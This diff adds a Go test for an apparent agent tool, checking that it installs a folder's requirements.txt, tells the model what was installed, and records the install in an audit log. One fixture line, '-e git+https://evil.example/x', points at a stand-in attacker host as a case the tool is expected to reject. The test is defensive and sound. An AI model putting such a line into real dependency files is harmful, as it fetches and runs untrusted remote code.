@@ -95,3 +95,39 @@ func TestExecWithDependencies(t *testing.T) {
 		}
 	})
 }
+
+// A run in a folder with a requirements.txt installs it, tells the model
+// what is installed, gives every program the packages, and audits the
+// install.
+func TestRunUsesTheFolderRequirements(t *testing.T) {
+	ix := birdIndex(t)
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte("seabird==1.0\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	data := t.TempDir()
+	srv, flags := modelServer(t, pyAnswer("import seabird\nprint(seabird.VALUE)\n"))
+	code, stdout, stderr := runBinary(t, dir, nil, append(append([]string{"run", "--data-dir", data, "--index-url", ix.URL()}, flags...),
+		"--no-verify", "Print the seabird value")...)
+	if code != 0 || !strings.Contains(stdout, "42") || !strings.Contains(stderr, "installing seabird==1.0") {
+		t.Fatalf("exit %d\n%s%s", code, stdout, stderr)
+	}
+	if req := srv.Requests()[0].Text(); !strings.Contains(req, "installed for this task: seabird 1.0, gull 0.7") {
+		t.Errorf("the model is not told what is installed:\n%s", req)
+	}
+	code, stdout, _ = runBinary(t, "", nil, "log", "--data-dir", data)
+	if code != 0 || !strings.Contains(stdout, "dependencies") || !strings.Contains(stdout, "seabird") {
+		t.Errorf("the audit log lacks the install:\n%s", stdout)
+	}
+	// A requirements.txt codeagent does not install is named and left
+	// out; the run goes on.
+	if err := os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte("-e git+https://evil.example/x\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, flags = modelServer(t, pyAnswer("print('plain')\n"))
+	code, stdout, stderr = runBinary(t, dir, nil, append(append([]string{"run", "--data-dir", data}, flags...),
+		"--no-verify", "Print plain")...)
+	if code != 0 || !strings.Contains(stderr, "requirements.txt: line 1") {
+		t.Errorf("a requirements.txt not installed: exit %d\n%s%s", code, stdout, stderr)
+	}
+}
